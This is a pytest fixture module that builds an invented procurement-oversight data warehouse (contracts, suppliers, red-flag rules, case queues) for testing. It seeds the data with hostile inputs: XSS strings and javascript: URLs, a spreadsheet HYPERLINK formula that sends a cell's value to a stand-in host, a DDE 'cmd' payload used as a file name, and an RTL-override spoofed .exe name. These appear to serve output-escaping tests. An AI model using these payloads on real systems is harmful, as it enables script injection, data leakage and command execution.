"""A small invented warehouse, with the tables of a snapshot and texts that try to do harm."""

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pytest

PERSON_RFC = "VECR800101AB9"  # invented; the shape of a natural person's
COMPANY_RFC = "NDE150301QX7"
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"ver")'
RTL = "Papelería \u202egnp.exe\u202c قرطاسية"
HUGE = "A" * 1_000_000
SHA = {name: f"{i:02d}" * 32 for i, name in enumerate(("a", "b", "c", "d"), start=10)}

SCHEMA = """
create schema ingest; create schema core; create schema flags; create schema cases;
create schema meta;
create table meta.run(as_of date, built_at timestamp, engine_version varchar, settings_digest varchar);
create table meta.validation(suite varchar, target varchar, expectation varchar,
  column_name varchar, severity varchar, success boolean, unexpected_count bigint,
  message varchar, why varchar);
create table ingest.file(file_sha256 varchar, source varchar, layout varchar, name varchar,
  export_date date, export_basis varchar, rows_read bigint, rows_loaded bigint,
  rows_quarantined bigint, rows_duplicate bigint, columns_unknown varchar[],
  columns_missing varchar[], notes varchar[], status varchar, reason varchar,
  ingested_at timestamp, size_bytes bigint, encoding varchar);
create table ingest.quarantine(file_sha256 varchar, row_number bigint, reason varchar, raw varchar);
create table core.buyer(buyer_id varchar, unit_code varchar, unit varchar, institution_id varchar,
  institution varchar, government_order varchar, state varchar, municipality_code varchar);
create table core.institution(institution_id varchar, institution varchar,
  government_order varchar, n_units bigint);
create table core.supplier(supplier_id varchar, kind varchar, name varchar, name_core varchar,
  legal_form varchar, name_key varchar, rfc varchar, rfc_public varchar, rfc_status varchar);
create table core.procedure(procedure_id varchar, procedure_number varchar, procedure_year integer,
  buyer_id varchar, title varchar, is_draft boolean, law varchar, regime varchar, matter varchar,
  character varchar, method varchar, exception varchar, published_on date, opened_on date,
  award_on date, award_is_scheduled boolean, status varchar, item_codes varchar[], state varchar,
  url varchar, has_dossier boolean, n_contracts bigint, amount_mxn decimal(18,2));
create table core.contract(contract_id varchar, procedure_id varchar, procedure_number varchar,
  procedure_year integer, buyer_id varchar, supplier_id varchar, title varchar,
  description varchar, law varchar, regime varchar, matter varchar, method varchar,
  exception varchar, exception_article varchar, procedure_type varchar, amount_mxn decimal(18,2),
  amount decimal(18,2), currency varchar, published_on date, award_on date,
  award_is_scheduled boolean, signed_on date, start_on date, end_on date, event_on date,
  event_basis varchar, item_codes varchar[], item_family varchar, size_class varchar,
  consolidated boolean, framework boolean, url varchar, first_seen_on date, last_seen_on date,
  n_exports integer, n_source_rows bigint, layouts varchar[], amount_with_vat decimal(18,2));
create table core.bid(bid_id varchar, procedure_id varchar, supplier_id varchar,
  supplier_name varchar, status varchar, amount_with_vat decimal(18,2), amount_mxn decimal(18,2));
create table core.quotation(quotation_id varchar, contract_id varchar, supplier_id varchar,
  supplier_name varchar, amount_with_vat decimal(18,2), is_winner boolean,
  amount_mxn decimal(18,2));
create table core.amendment(amendment_id varchar, contract_id varchar, number varchar,
  object varchar, signed_on date, amount_before_mxn decimal(18,2), amount_after_mxn decimal(18,2));
create table core.source_row(record_id varchar, record_type varchar, file_sha256 varchar,
  row_number bigint, source varchar, layout varchar, export_on date, url varchar);
create table core.contract_version(contract_id varchar, feed varchar, version integer,
  export_on date, file_sha256 varchar, row_number bigint, status varchar, changed json,
  amount_before decimal(18,2), amount_after decimal(18,2));
create table flags.flag(flag_id varchar, case_id varchar, rule_id varchar, rule_digest varchar,
  kind varchar, subject_type varchar, subject_id varchar, event_on date, value double,
  severity varchar, certainty varchar, audience varchar, sentence varchar, evidence json,
  source_rows json, suppressed_by varchar);
create table flags.coverage(rule_id varchar, outcome varchar, missing varchar, n bigint);
create table flags.rule(rule_id varchar, title varchar, kind varchar, status varchar,
  subject varchar, family varchar, severity varchar, evidence_group varchar, audience varchar, digest varchar,
  params json, sql varchar, description varchar, why varchar, innocent varchar[],
  ask_for varchar[], legal_basis json, equivalents varchar[], file varchar, computed bigint,
  flagged bigint, prevalence double, miscalibrated boolean);
create table cases.queue(case_id varchar, subject_type varchar, subject_id varchar, score double,
  amount decimal(18,2), rank bigint, rules varchar[], first_flagged_on date,
  raw_score double, opportunities bigint, rank_uncapped bigint, deferred boolean default false,
  buyer_id varchar, n_flags bigint, change varchar);
create table cases.weight(case_id varchar, flag_id varchar, rule_id varchar,
  evidence_group varchar, weight double, counts boolean, raw_weight double,
  prevalence double default 0.1, size_class varchar);
create table cases.change(case_id varchar, subject_type varchar, subject_id varchar, change varchar,
  what varchar, score_before double, score_after double, first_flagged_on date);
create table cases.cap(window_size integer, per_buyer integer);
insert into cases.cap values (20, 3);
create table flags.prevalence(rule_id varchar, size_class varchar, computed bigint, flagged bigint,
  prevalence double);
"""

RULES = [
    ("P3", "Adjudicación directa por monto cerca o por encima del máximo", "flag", "stable",
     "planning", "high", "direct_ceiling", "public",
     {"share": {"value": 0.9, "default": 0.95, "unit": ""}},
     "Compara el importe de cada adjudicación directa por monto con el máximo del año.",
     "Un importe que llega justo al máximo puede deberse a que la compra se ajustó para no licitar.",
     ["El presupuesto autorizado coincide con el máximo.", "Un contrato marco fija el precio."],
     ["La investigación de mercado.", "La suficiencia presupuestal."],
     [{"law": "LAASSP 2025", "article": "55", "note": "permitido dentro del máximo"}], False),
    ("T9", "Título que no dice qué se compra", "signal", "test", "transparency", "low", "title",
     "public", {}, "Busca títulos sin palabras con contenido.",
     "Sin un título claro nadie puede saber qué se contrató.",
     ["El sistema de origen recorta los títulos."], ["El objeto completo del contrato."], [], False),
    ("D7", "Un proveedor reúne la mayor parte del gasto", "flag", "experimental", "concentration",
     "medium", "concentration", "committee", {"min_contracts": {"value": 3, "default": 3, "unit": "contratos"}},
     "Mide qué parte del gasto de la unidad va a su mayor proveedor.",
     "Una concentración alta reduce las opciones de compra.",
     ["Solo hay un fabricante de lo que se compra."], ["El padrón de proveedores consultado."],
     [], True),
    ("F1", "Contratación con una empresa inhabilitada en esa fecha", "flag", "test", "firm",
     "high", "ban", "analyst", {}, "Compara fechas de fallo y firma con las de la inhabilitación.",
     "Contratar a quien tenía prohibido participar contraviene la ley.",
     ["Otra empresa tiene el mismo nombre."], ["La consulta al directorio de sancionados."],
     [{"law": "LAASSP 2025", "article": "71-IV"}, {"law": "LAASSP 2025", "article": "90"}], False),
]  # fmt: skip


@dataclass(frozen=True)
class Warehouse:
    """The database file, read by `con`, and the ids of its best case."""

    path: Path
    con: duckdb.DuckDBPyConnection
    case_id: str = "K" + "0" * 11 + "1"
    flag_id: str = "F" + "0" * 11 + "1"


def _insert(
    con: duckdb.DuckDBPyConnection, table: str, names: str, rows: list[tuple[Any, ...]]
) -> None:
    columns = dict(zip(names.split(), map(list, zip(*rows, strict=True)), strict=True))
    many = pa.table(columns)  # noqa: F841 - read by the query
    con.execute(f"insert into {table} by name select * from many")


def _source(sha: str, row: int, url: str | None) -> dict[str, object]:
    names = {SHA["a"]: "contratos__2026-03-11.csv", SHA["b"]: "sancionados 2026.xlsx"}
    return {"file_sha256": sha, "file": names[sha], "row_number": row, "url": url}


def _fill_rules(con: duckdb.DuckDBPyConnection) -> None:
    for r in RULES:
        con.execute(
            """insert into flags.rule values
               (?,?,?,?,'contract',?,?,?,?,'d',?,'select 1',?,?,?,?,?,[],'a.sql',1000,100,0.1,?)""",
            [*r[:8], json.dumps(r[8]), *r[9:13], json.dumps(r[13]), r[14]],
        )
    con.executemany(
        "insert into flags.coverage values (?,?,?,?)",
        [
            ("P3", "flagged", None, 12), ("P3", "cleared", None, 328),
            ("P3", "not_computable", "amount_mxn", 50),
            ("P3", "not_computable", "award_on,signed_on", 10),
            ("P3", "not_applicable", None, 3429),
            ("T9", "flagged", None, 30), ("T9", "cleared", None, 3799),
            ("D7", "flagged", None, 53), ("D7", "cleared", None, 15),
            ("F1", "not_computable", "signed_on", 7), ("F1", "flagged", None, 1),
            ("F1", "cleared", None, 3821),
        ],
    )  # fmt: skip


def _fill_files(con: duckdb.DuckDBPyConnection) -> None:
    con.executemany(
        "insert into ingest.file values (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,now()::timestamp,1,'utf-8')",
        [
            (SHA["a"], "comprasmx_contracts", "21", "contratos__2026-03-11.csv", "2026-03-11",
             "nombre del archivo", 3832, 3827, 2, 3, ["Columna nueva " + SCRIPT], [], [],
             "loaded", None),
            (SHA["b"], "sanctions", "sabg_9", "sancionados 2026.xlsx", "2026-02-28",
             "última fecha registrada dentro del archivo", 2395, 2395, 0, 0, [],
             ["ban_start_on", "supplier_rfc"], ["12 fechas de inicio no se pudieron leer"],
             "loaded", None),
            (SHA["c"], None, None, "=cmd|' /C calc'!A0.csv", None, None, 0, 0, 0, 0, [], [], [],
             "refused", "No corresponde a ningún formato conocido; el más cercano es Contratos "
             "de ComprasMX, pero faltan: Proveedor o contratista, Ley."),
        ],
    )  # fmt: skip
    con.executemany(
        "insert into ingest.quarantine values (?,?,?,?)",
        [
            (SHA["a"], 17, "el importe no es un número", f"x,{PERSON_RFC},y"),
            (SHA["a"], 99, "el renglón tiene 2 campos de más", HUGE),
        ],
    )
    con.executemany(
        "insert into meta.validation values (?,?,?,?,?,?,?,?,?)",
        [
            ("staged.contracts", SHA["a"], "not_null", "signed_on", "warning", False, 1410,
             "1,410 contratos no traen fecha de firma", "Sin la firma no se sabe si ya obliga."),
            ("staged.contracts", SHA["a"], "unique", "url", "warning", True, 0, "", ""),
        ],
    )  # fmt: skip


def _fill_core(con: duckdb.DuckDBPyConnection, n: int) -> None:
    con.executemany(
        "insert into core.buyer values (?,?,?,?,?,?,?,?)",
        [
            ("B1", "050XYZ001", "Coordinación de Abasto Norte", "I1", "Instituto de Ejemplo",
             "federal", "Zacatecas", None),
            ("B2", "050XYZ002", "Dirección de Obras <b>Sur</b>", "I2", "Municipio de Ejemplo",
             "municipal", "Zacatecas", "32010"),
        ],
    )  # fmt: skip
    con.executemany(
        "insert into core.supplier values (?,?,?,null,null,?,?,?,?)",
        [
            (
                "S1",
                "company",
                "Núcleo de Ensayos, S.A. de C.V.",
                "k1",
                COMPANY_RFC,
                COMPANY_RFC,
                "valid",
            ),
            (
                "S2",
                "person",
                f"Rosa Ejemplo Vértiz ({PERSON_RFC})",
                "k2",
                PERSON_RFC,
                None,
                "valid",
            ),
            ("S3", "company", SCRIPT, "k3", None, None, "absent"),
            ("S4", "company", FORMULA, "k4", None, None, "absent"),
            ("S5", "company", RTL, "k5", None, None, "absent"),
        ],
    )
    titles = [
        "Servicio de limpieza de oficinas", f"Honorarios de {PERSON_RFC}", SCRIPT, FORMULA, RTL, HUGE,
        "@SUM(A1:A9)", "\t+1+1", '"comillas" y \'apóstrofos\' & <etiquetas>',
    ]  # fmt: skip
    urls = ["https://example.org/anuncio/1", f"https://example.org/?rfc={PERSON_RFC}",
            "javascript:alert(1)"]  # fmt: skip
    _insert(
        con, "core.contract",
        "contract_id procedure_id procedure_number buyer_id supplier_id title amount_mxn url",
        [
            (f"C{i:05d}", f"AA-1-XYZ-{i}-2026", f"AA-1-XYZ-{i}-2026", f"B{1 + i % 2}",
             f"S{1 + i % 5}", titles[i % len(titles)] if i < 40 else titles[0],
             1_145_000 - i, urls[i % 3])
            for i in range(n)
        ],
    )  # fmt: skip
    con.execute(
        """update core.contract set law = 'LAASSP', method = 'direct', exception_article = 'ART. 55',
           currency = 'MXN', published_on = '2026-03-01', award_on = '2026-03-06',
           event_on = '2026-03-06'"""
    )
    _insert(
        con, "core.source_row", "record_id record_type file_sha256 row_number url",
        [(f"C{i:05d}", "contract", SHA["a"], i + 2, urls[i % 3]) for i in range(n)],
    )  # fmt: skip


def _fill_versions(con: duckdb.DuckDBPyConnection) -> None:
    changed = json.dumps([{"field": "amount", "from": 900000, "to": 1145000}])
    con.executemany(
        "insert into core.contract_version values (?,?,?,?,?,?,?,?,null,null)",
        [
            ("C00000", "comprasmx", 1, "2026-03-08", SHA["a"], 2, "added", None),
            ("C00000", "comprasmx", 2, "2026-03-11", SHA["a"], 2, "changed", changed),
        ],
    )


def _fill_flags(con: duckdb.DuckDBPyConnection, n: int) -> None:
    flags, queue, weights = [], [], []
    for i in range(n):
        case, evidence = f"K{i + 1:012x}", {
            "subject_id": f"C{i:05d}", "value": 1.0, "is_flagged": True, "buyer": "Abasto Norte",
            "amount_mxn": 1_145_000 - i, "ceiling_mxn": 1_145_000, "share": 0.905,
            "method": "direct", "award_on": "2026-03-06", "signed_on": None,
            "supplier": [SCRIPT, FORMULA, PERSON_RFC, RTL][i % 4], "award_is_scheduled": False,
        }  # fmt: skip
        sentence = (
            f"La unidad adjudicó de forma directa un contrato por ${1_145_000 - i:,.2f}, que llega "
            f"al 100.0 % del máximo aplicable de 2026. {SCRIPT if i % 7 == 3 else ''}"
        )
        row = json.dumps([_source(SHA["a"], i + 2, "https://example.org/anuncio/1")])
        flags.append(
            (
                f"F{i + 1:012x}",
                case,
                "P3",
                "flag",
                "contract",
                f"C{i:05d}",
                "2026-03-06",
                1.0,
                "high",
                "certain",
                "public",
                sentence,
                json.dumps(evidence),
                row,
            )
        )
        rules = ["P3"]
        weights.append((case, f"F{i + 1:012x}", "P3", "direct_ceiling", 0.72, True))
        if i % 3 == 0:
            two = [_source(SHA["a"], i + 2, "javascript:alert(1)"), _source(SHA["b"], 40, None)]
            flags.append((f"F{n + i + 1:012x}", case, "F1", "flag", "contract", f"C{i:05d}",
                          "2026-03-06", 1.0, "high", "probable", "analyst",
                          "El proveedor coincide en nombre con una empresa inhabilitada ese día.",
                          json.dumps({"ban_start_on": "2025-01-01", "authority": SCRIPT}),
                          json.dumps(two)))  # fmt: skip
            rules = ["F1", "P3"]
            weights.append((case, f"F{n + i + 1:012x}", "F1", "ban", 0.432, True))
        score = 0.84096 if i % 3 == 0 else 0.72
        queue.append((case, "contract", f"C{i:05d}", score, 1_145_000 - i, i + 1, rules,
                      "2026-03-06" if i % 2 else "2026-03-11"))  # fmt: skip
    flags.extend(
        (f"F{3 * n + i:012x}", None, "T9", "signal", "contract", f"C{i:05d}",
         "2026-03-01", None, "low", "certain", "public", f"El título «{FORMULA}» no dice qué se compra.",
         "{}", json.dumps([_source(SHA["a"], 5 + i, None)]))
        for i in range(30)
    )  # fmt: skip
    flags.append((f"F{9 * n:012x}", f"K{9 * n:012x}", "F1", "flag", "supplier", "S1", "2026-03-01", None,
                  "high", "certain", "restricted", "SOLO ACCESO RESTRINGIDO", "{}", "[]"))  # fmt: skip
    queue.append((f"K{9 * n:012x}", "supplier", "S1", 0.99, None, 0, ["F1"], "2026-03-01"))
    _insert(con, "flags.flag",
            "flag_id case_id rule_id kind subject_type subject_id event_on value severity certainty "
            "audience sentence evidence source_rows", flags)  # fmt: skip
    _insert(con, "cases.queue",
            "case_id subject_type subject_id score amount rank rules first_flagged_on", queue)  # fmt: skip
    _insert(con, "cases.weight", "case_id flag_id rule_id evidence_group weight counts", weights)


def build(path: Path, n: int) -> None:
    """Writes a warehouse with n cases about n contracts."""
    con = duckdb.connect(str(path))
    con.execute(SCHEMA)
    con.execute(
        "insert into meta.run values ('2026-03-11', '2026-03-12 09:30:00', '0.1.0', 'abc123')"
    )
    con.begin()
    _fill_rules(con)
    _fill_files(con)
    _fill_core(con, n)
    _fill_versions(con)
    _fill_flags(con, n)
    con.commit()
    con.close()


@pytest.fixture(scope="session")
def make_warehouse(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Callable[[int], Warehouse]]:
    """make_warehouse(n) gives a warehouse with n visible cases, opened read-only."""
    made: dict[int, Warehouse] = {}

    def make(n: int) -> Warehouse:
        if n not in made:
            path = tmp_path_factory.mktemp("warehouse") / "current.duckdb"
            build(path, n)
            made[n] = Warehouse(path, duckdb.connect(str(path), read_only=True))
        return made[n]

    yield make
    for warehouse in made.values():
        warehouse.con.close()


@pytest.fixture(scope="session")
def warehouse(make_warehouse: Callable[[int], Warehouse]) -> Warehouse:
    """A warehouse with forty visible cases."""
    return make_warehouse(40)
